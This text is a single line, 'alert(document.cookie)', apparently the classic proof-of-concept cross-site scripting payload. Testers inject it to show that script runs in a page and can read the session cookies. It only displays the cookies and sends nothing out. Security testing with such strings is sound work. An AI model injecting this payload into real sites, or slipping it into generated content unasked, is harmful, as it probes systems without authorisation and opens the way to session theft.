alert(document.cookie)
